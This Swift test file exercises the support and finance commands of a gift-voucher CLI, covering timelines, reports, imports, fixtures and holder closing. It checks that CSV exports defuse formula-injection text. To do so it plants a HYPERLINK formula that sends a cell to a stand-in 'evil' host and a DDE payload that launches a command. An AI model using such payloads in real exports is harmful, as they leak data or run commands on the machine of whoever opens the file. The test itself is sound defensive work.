import Foundation
import RepositoryFiles
import Testing

/// The support and finance commands as a person types them, against the fixture book.
@Suite struct SupportCLITests {
    static func bookRunner() throws -> CLIRunner {
        let cli = CLIRunner(now: "2026-11-23T10:00:00Z")
        let r = try cli.run(["fixtures", "load"])
        #expect(r.status == 0, "\(r.stderr)")
        return cli
    }

    @Test func holderShow_json_isTheWholeTimeline_newestFirst() throws {
        let cli = try Self.bookRunner()
        let view = try cli.json(["holder", "show", "margareta.holm@example.se"])
        let profile = view["profile"] as? [String: Any]
        #expect(profile?["name"] as? String == "Margareta Holm")
        let timeline = view["timeline"] as? [[String: Any]] ?? []
        let times = timeline.compactMap { $0["at"] as? String }
        #expect(times.count > 20 && times == times.sorted(by: >))
        let text = try cli.run(["holder", "show", "margareta.holm@example.se"])
        #expect(text.status == 0 && text.stdout.contains("Customer since: 2016-12-10 (9 years, 11 months)"))
        let missing = try cli.run(["holder", "show", "nobody@example.com"])
        #expect(missing.status == 1 && missing.stderr.contains("goodwill holder search"))
    }

    /// The timeline's times are the holder's local times, and the header says which zone: an agent
    /// on the phone reads the hour the holder lived. JSON keeps instants in UTC.
    @Test func holderShow_timelineTimes_areInTheHoldersZone_andSaySo() throws {
        let cli = try Self.bookRunner()
        let text = try cli.run(["holder", "show", "margareta.holm@example.se"])
        #expect(text.status == 0)
        #expect(text.stdout.contains("Time zone:      Europe/Stockholm"), "\(text.stdout)")
        #expect(text.stdout.contains("Timeline, newest first (32 events; times in Europe/Stockholm):"), "\(text.stdout)")
        // 2026-10-09T06:20Z, summer time in Stockholm (UTC+2); 2026-01-11T05:00Z, winter (UTC+1).
        // (Codes are new at each load: matched by their shape.)
        #expect(text.stdout.contains(try Regex(#"\n2026-10-09 08:20  [0-9A-Z-]{21}  Redeemed 3950\.00 SEK"#)), "\(text.stdout)")
        #expect(text.stdout.contains(try Regex(#"\n2026-01-11 06:00  [0-9A-Z-]{21}  Expired with"#)), "\(text.stdout)")
        let json = try cli.json(["holder", "show", "margareta.holm@example.se"])
        let times = (json["timeline"] as? [[String: Any]] ?? []).compactMap { $0["at"] as? String }
        #expect(times.first?.hasPrefix("2026-10-09T06:20:") == true && times.first?.hasSuffix("Z") == true, "\(times.first ?? "")")

        // No zone of their own: the zone of the voucher they hold, as their reminders go by.
        let other = CLIRunner(now: "2026-07-01T12:00:00Z")
        _ = try other.issue(["--holder-email", "jo@example.com", "--time-zone", "America/New_York"])
        let jo = try other.run(["holder", "show", "jo@example.com"])
        #expect(jo.stdout.contains("(2 events; times in America/New_York):"), "\(jo.stdout)")
        #expect(jo.stdout.contains("2026-07-01 08:00  "), "\(jo.stdout)")
    }

    @Test func reports_printTableCSVAndJSON_andReconcile() throws {
        let cli = try Self.bookRunner()
        let csv = try cli.run(["report", "liability", "--format", "csv"])
        #expect(csv.status == 0 && csv.stdout.hasPrefix("currency,expiry_month,vouchers,amount,payout_claimable_vouchers,payout_claimable_amount,as_of\r\n"))
        let json = try cli.run(["report", "expiring", "--days", "60", "--format", "json"])
        #expect(json.status == 0 && json.stdout.contains("\"days\" : 60"))
        let rec = try cli.run(["report", "reconciliation"])
        #expect(rec.status == 0 && rec.stdout.contains("Balanced"))
        let bad = try cli.run(["report", "breakage", "--format", "xml"])
        #expect(bad.status == 64)
    }

    @Test func casesNotesAndClose_fromTheCommandLine() throws {
        let cli = try Self.bookRunner()
        let opened = try cli.json(["case", "open", "margareta.holm@example.se", "Balloon", "flight", "cancelled"])
        #expect(opened["subject"] as? String == "Balloon flight cancelled" && opened["open"] as? Bool == true)
        let id = opened["id"] as? Int ?? 0
        #expect(try cli.run(["holder", "note", "margareta.holm@example.se", "Prefers", "email."]).status == 0)
        #expect(try cli.run(["case", "close", String(id), "Rebooked."]).status == 0)
        let again = try cli.run(["case", "close", String(id), "Again."])
        #expect(again.status == 1 && again.stderr.contains("already closed"))
        let closed = try cli.json(["holder", "close", "margareta.holm@example.se", "--erase"])
        #expect(closed["erased"] as? Bool == true && closed["already_closed"] as? Bool == false)
        let holderID = closed["holder_id"] as? String ?? ""
        let second = try cli.run(["holder", "close", holderID])
        #expect(second.status == 0 && second.stdout.contains("Already closed"))
        #expect(try cli.run(["verify"]).status == 0)
        #expect(try cli.run(["holder", "show", "margareta.holm@example.se"]).status == 1)
    }

    /// A note that starts with a dash is the note, not an option; an unknown option on a command
    /// that takes text says how to give such text.
    @Test func holderNote_startingWithADash_isStored() throws {
        let cli = CLIRunner()
        _ = try cli.issue(["--holder-email", "c@b.se"])
        for text in ["- called back", "-h called back"] {
            let r = try cli.run(["holder", "note", "c@b.se", text])
            #expect(r.status == 0 && r.stdout.hasPrefix("Note "), "\(text): \(r.stdout)\(r.stderr)")
        }
        let view = try cli.json(["holder", "show", "c@b.se"])
        let notes = (view["timeline"] as? [[String: Any]] ?? []).compactMap { ($0["note"] as? [String: Any])?["text"] as? String }
        #expect(notes.sorted() == ["- called back", "-h called back"])
        let unknown = try cli.run(["holder", "note", "c@b.se", "-x-ray"])
        #expect(unknown.status == 64)
        #expect(unknown.stderr.hasPrefix("Error: Unknown option '-x-ray'. If it is text, put -- before text that starts with '-'.\n"), "\(unknown.stderr)")
        #expect(try cli.run(["holder", "note", "c@b.se", "--", "-x-ray"]).status == 0)
    }

    @Test func importWithABadRow_exits1_namesTheLine_andStoresNothing() throws {
        let cli = CLIRunner(now: "2026-11-23T10:00:00Z")
        let file = cli.folder.appendingPathComponent("book.csv").path
        try "code,value,balance,currency,issued\nA-1,500,500,SEK,2026-01-01\nA-2,500,900,SEK,2026-01-01\n".write(toFile: file, atomically: true, encoding: .utf8)
        let r = try cli.run(["import", "vouchers", file])
        #expect(r.status == 1 && r.stderr.contains("line 3 (A-2): balance 900.00 must be between 0 and the value 500.00"))
        // Nothing stored: not even the database the import created for it is left.
        #expect(!FileManager.default.fileExists(atPath: cli.database))
        let skip = try cli.run(["import", "vouchers", file, "--skip-invalid", "--rejects", cli.folder.appendingPathComponent("rej.csv").path])
        #expect(skip.status == 0 && skip.stdout.contains("Imported 1 of 2"))
        let lines = try cli.run(["export", "entries", "--format", "jsonl"]).stdout.split(separator: "\n")
        #expect(lines.count == 1 && lines[0].contains("\"code\":\"A-1\""))
    }

    /// One of each is said as one: "1 voucher", not "1 vouchers"; "1 day", not "1 days".
    @Test func importAndReports_sayOneAsOne() throws {
        let cli = CLIRunner(now: "2026-11-23T10:00:00Z")
        let file = cli.folder.appendingPathComponent("book.csv").path
        try "code,value,balance,currency,issued\nA-1,500,500,SEK,2026-01-01\nA-2,500,900,SEK,2026-01-01\n".write(toFile: file, atomically: true, encoding: .utf8)
        let skip = try cli.run(["import", "vouchers", file, "--skip-invalid"])
        // One of each, said as one: "1 voucher", not "1 vouchers".
        #expect(skip.stdout.contains("Imported 1 of 2 vouchers from \(file); 0 new holders.\n  SEK: 1 voucher, 500.00 in balances\nLeft out 1 invalid row"), "\(skip.stdout)")
        let one = cli.folder.appendingPathComponent("one.csv").path
        try "code,value,balance,currency,issued,holder_email\nB-1,500,500,SEK,2026-01-01,b@example.se\n".write(toFile: one, atomically: true, encoding: .utf8)
        let single = try cli.run(["import", "vouchers", one])
        #expect(single.stdout.contains("Imported 1 of 1 voucher from \(one); 1 new holder.\n  SEK: 1 voucher, 500.00 in balances"), "\(single.stdout)")
        let report = try cli.run(["report", "liability"])
        #expect(report.stdout.contains("Total SEK: 1000.00 on 2 vouchers"), "\(report.stdout)")
        let expiring = try cli.run(["report", "expiring", "--days", "1"])
        #expect(expiring.stdout.hasPrefix("Expiring in the next 1 day ("), "\(expiring.stdout)")
    }

    /// The import commits before the rejects file is written, so a rejects path that cannot be
    /// written is refused first: a usage error, and nothing imported.
    @Test func importWithRejectsThatCannotBeWritten_isRefusedBeforeImporting() throws {
        let cli = CLIRunner(now: "2026-11-23T10:00:00Z")
        let file = cli.folder.appendingPathComponent("book.csv").path
        try "code,value,balance,currency,issued\nA-1,500,500,SEK,2026-01-01\nA-2,500,900,SEK,2026-01-01\n".write(toFile: file, atomically: true, encoding: .utf8)
        let missingFolder = cli.folder.appendingPathComponent("no-such-folder/rej.csv").path
        let cases = [(missingFolder, "the folder '\(cli.folder.appendingPathComponent("no-such-folder").path)' does not exist"),
                     (cli.folder.path, "is a folder")]
        for (rejects, message) in cases {
            let r = try cli.run(["import", "vouchers", file, "--skip-invalid", "--rejects", rejects])
            #expect(r.status == 64, "\(rejects): \(r.stderr)")
            #expect(r.stderr.contains(message), "\(r.stderr)")
            #expect(r.stdout.isEmpty)
            #expect(!FileManager.default.fileExists(atPath: cli.database))  // not even opened
        }
        let ok = try cli.run(["import", "vouchers", file, "--skip-invalid", "--rejects", cli.folder.appendingPathComponent("rej.csv").path])
        #expect(ok.status == 0 && ok.stdout.contains("Imported 1 of 2"))
    }

    /// `--rejects` naming the book itself (however the path is spelled) would replace the book
    /// with its bad rows once the good ones were in: refused before anything is imported.
    @Test func importWithRejectsNamingTheBookItself_isRefused_andTheBookKept() throws {
        let cli = CLIRunner(now: "2026-11-23T10:00:00Z")
        let file = cli.folder.appendingPathComponent("book.csv").path
        let book = "code,value,balance,currency,issued\nA-1,500,500,SEK,2026-01-01\nA-2,500,900,SEK,2026-01-01\n"
        try book.write(toFile: file, atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: cli.folder.appendingPathComponent("link.csv").path, withDestinationPath: file)
        for rejects in [file, cli.folder.appendingPathComponent("./book.csv").path, cli.folder.appendingPathComponent("link.csv").path] {
            let r = try cli.run(["import", "vouchers", file, "--skip-invalid", "--rejects", rejects])
            #expect(r.status == 64, "\(rejects): \(r.stderr)")
            #expect(r.stderr.contains("is the file being imported"), "\(r.stderr)")
            #expect(try String(contentsOfFile: file, encoding: .utf8) == book)
            #expect(!FileManager.default.fileExists(atPath: cli.database))
        }
    }

    /// Text from outside that starts a spreadsheet formula (a rule name, an experience, a reason, a
    /// reference) is written with a leading ' in every CSV the CLI prints; amounts stay numbers.
    @Test func csvOutput_writesFreeTextThatStartsAFormula_asText() throws {
        let cli = CLIRunner(now: "2025-04-02T09:00:00Z")
        let hyperlink = #"=HYPERLINK("http://evil/?"&A1,"click")"#
        let policy = try String(contentsOf: Repository.file("Policies/default.json"), encoding: .utf8)
            .replacingOccurrences(of: "\"version\": 1", with: "\"version\": 2")
            .replacingOccurrences(of: "\"recently expired, first time\"", with: #""=HYPERLINK(\"http://evil/?\"&A1,\"click\")""#)
        let file = cli.folder.appendingPathComponent("policy.json")
        try policy.write(to: file, atomically: true, encoding: .utf8)
        let activated = try cli.run(["policy", "activate", file.path])
        #expect(activated.status == 0, "\(activated.stderr)")
        let code = try cli.issue(["--holder-email", "anna@example.com", "--kind", "experience", "--experience", "@SUM(1+1)*cmd|' /C calc'!A0"])
        let later = ["GOODWILL_NOW": "2026-04-16T08:30:00Z"]
        let extend = try cli.run(["extend", code, "--reason", "+46 called, did not see the date"], env: later)
        #expect(extend.status == 0, "\(extend.stderr)")
        #expect(try cli.run(["redeem", code, "--amount", "100", "--reference", "-1+1"], env: later).status == 0)

        let report = try cli.run(["report", "goodwill", "--format", "csv"], env: later)
        #expect(report.status == 0)
        #expect(report.stdout.contains("\r\nrule,\"'" + hyperlink.replacingOccurrences(of: "\"", with: "\"\"") + "\",SEK,1,30,"), "\(report.stdout)")
        let vouchers = try cli.run(["export", "vouchers"], env: later)
        #expect(vouchers.stdout.contains(",experience,'@SUM(1+1)*cmd|' /C calc'!A0,default\r\n"), "\(vouchers.stdout)")
        let entries = try cli.run(["export", "entries"], env: later)
        #expect(entries.stdout.contains(",\"'+46 called, did not see the date\","), "\(entries.stdout)")
        #expect(entries.stdout.contains(",redeemed,-10000,40000,SEK,cli:tester,,'-1+1,"), "\(entries.stdout)")
    }

    /// The replay moves its clock through the book's past; what opening the new database installs
    /// (the default policy) is dated when it was installed.
    @Test func fixturesLoad_datesTheDefaultPolicyWhenItWasInstalled_not1970() throws {
        let cli = try Self.bookRunner()
        let list = try cli.run(["policy", "list"])
        #expect(list.status == 0)
        #expect(list.stdout.contains("2026-11-23T10:00:00Z") && !list.stdout.contains("1970"), "\(list.stdout)")
    }

    /// fixtures load is all or nothing, and the same book is not loaded twice.
    @Test func fixturesLoad_withABadLine_loadsNothing_andTwiceIsRefused() throws {
        let cli = CLIRunner(now: "2026-11-23T10:00:00Z")
        let shipped = try String(contentsOf: Repository.file("Fixtures/book/events.jsonl"), encoding: .utf8)
            .split(separator: "\n").prefix(3).joined(separator: "\n")
        let book = cli.folder.appendingPathComponent("book.jsonl")
        try (shipped + "\n" + #"{"at": "2018-01-01T00:00:00Z", "op": "redeem", "ref": "v1", "amount": "100"}"# + "\n")
            .write(to: book, atomically: true, encoding: .utf8)
        let bad = try cli.run(["fixtures", "load", book.path])
        #expect(bad.status == 1)
        #expect(bad.stderr.contains("Error: book.jsonl line 4: 'amount' should be a whole number. Nothing was loaded into \(cli.database)."), "\(bad.stderr)")
        // Nothing loaded: not even the database the load created for it is left.
        #expect(!FileManager.default.fileExists(atPath: cli.database))

        // Beside vouchers of its own (as in the README's tour), once; not twice.
        _ = try cli.issue()
        #expect(try cli.run(["fixtures", "load"]).status == 0)
        let count = try cli.run(["export", "vouchers"]).stdout.split(separator: "\r\n").count
        #expect(count == 1 + 1 + 3000)
        let again = try cli.run(["fixtures", "load"])
        #expect(again.status == 1 && again.stderr.contains("events.jsonl is loaded in this database already"), "\(again.stderr)")
        #expect(again.stderr.contains("Load it into a new database. Nothing was loaded into"), "\(again.stderr)")
        #expect(try cli.run(["export", "vouchers"]).stdout.split(separator: "\r\n").count == count)
    }

    /// A holder who closed and is issued a voucher again is a customer again: `holder close`
    /// closes anew (not "Already closed"), and `holder show` says they came back.
    @Test func holderClose_afterComingBack_closesAnew() throws {
        let cli = CLIRunner()
        let person = ["--holder-email", "anna@example.com", "--holder-name", "Anna Lind", "--holder-locale", "sv"]
        _ = try cli.issue(person)
        let first = try cli.run(["holder", "close", "anna@example.com"])
        #expect(first.status == 0 && !first.stdout.contains("Already closed"), "\(first.stderr)")
        let code = try cli.issue(person)
        let second = try cli.run(["holder", "close", "anna@example.com"])
        #expect(second.status == 0 && !second.stdout.contains("Already closed") && second.stdout.contains(code), "\(second.stdout)")
        #expect(try cli.run(["holder", "close", "anna@example.com"]).stdout.contains("Already closed"))
        let shown = try cli.run(["holder", "show", "anna@example.com"])
        #expect(shown.stdout.contains("Came back"), "\(shown.stdout)")
    }

    /// An erasure asked for after an earlier close is done now, and said so; the farewell of that
    /// close is reported as it stands (sent, or still waiting), not as queued anew.
    @Test func holderCloseErase_onAnAlreadyClosedHolder_saysItErasedNow_andTheFarewellsStatus() throws {
        let cli = CLIRunner()
        _ = try cli.issue(["--holder-email", "anna@example.se", "--holder-name", "Anna Lind", "--holder-locale", "sv"])
        let first = try cli.run(["holder", "close", "anna@example.se"])
        #expect(first.status == 0 && first.stdout.contains("Farewell (sv) queued as msg_"), "\(first.stdout)")
        let holderID = try #require(first.stdout.split(separator: "\n").first.map { String($0.dropFirst("Closed ".count).dropLast()) })

        // Not yet sent: still waiting, and nothing changed.
        let again = try cli.run(["holder", "close", holderID])
        #expect(again.stdout.contains("nothing was changed this time"), "\(again.stdout)")
        #expect(!again.stdout.contains("queued as"), "\(again.stdout)")
        #expect(again.stdout.contains("Farewell (sv) msg_") && again.stdout.contains(" has not gone out yet; it goes out at the next 'goodwill reminders run'."), "\(again.stdout)")

        let sent = try cli.run(["reminders", "run", "--maildir", cli.folder.appendingPathComponent("mail").path])
        #expect(sent.status == 0, "\(sent.stderr)")
        let erased = try cli.run(["holder", "close", holderID, "--erase"])
        #expect(erased.status == 0, "\(erased.stderr)")
        #expect(erased.stdout.hasPrefix("Already closed on 2025-04-02T10:00:00Z by cli:tester; personal data erased now. What was done then:\n"), "\(erased.stdout)")
        #expect(!erased.stdout.contains("nothing was changed"), "\(erased.stdout)")
        #expect(!erased.stdout.contains("queued as") && !erased.stdout.contains("it goes out at the next"), "\(erased.stdout)")
        #expect(erased.stdout.contains("Farewell (sv) msg_") && erased.stdout.contains(" was sent on 2025-04-02T10:00:00Z."), "\(erased.stdout)")
        #expect(erased.stdout.contains("Personal data erased; the holder is now \"Former customer "), "\(erased.stdout)")

        let json = try cli.json(["holder", "close", holderID, "--erase"])
        #expect(json["already_closed"] as? Bool == true && json["erased"] as? Bool == true && json["erased_now"] as? Bool == false)
        let farewell = json["farewell"] as? [String: Any]
        #expect(farewell?["status"] as? String == "sent" && farewell?["sent_at"] as? String == "2025-04-02T10:00:00Z", "\(json)")
    }

    /// One payout reference, one payment: another holder's close under it fails (exit 1), saying
    /// whose close it was given for, and changes nothing.
    @Test func holderClose_withAnotherClosesPayoutReference_isRefused() throws {
        let cli = CLIRunner()
        _ = try cli.issue(["--holder-email", "anna@example.com", "--holder-name", "Anna Lind"])
        _ = try cli.issue(["--holder-email", "ole@example.com", "--holder-name", "Ole Berg"])
        let anna = try cli.run(["holder", "close", "anna@example.com", "--refund-all", "--payout-reference", "BANK-7"])
        #expect(anna.status == 0, "\(anna.stderr)")
        let before = try cli.snapshot()
        let ole = try cli.run(["holder", "close", "ole@example.com", "--refund-all", "--payout-reference", "bank-7"])
        #expect(ole.status == 1)
        #expect(ole.stderr.contains("Error: The payout reference 'bank-7' was already given when holder hld_")
                && ole.stderr.contains("Give the reference of this payout (its own bank transfer or payment id). Nothing was changed."), "\(ole.stderr)")
        #expect(try cli.snapshot() == before)
        #expect(try cli.run(["holder", "close", "ole@example.com", "--refund-all", "--payout-reference", "BANK-8"]).status == 0)
    }
}
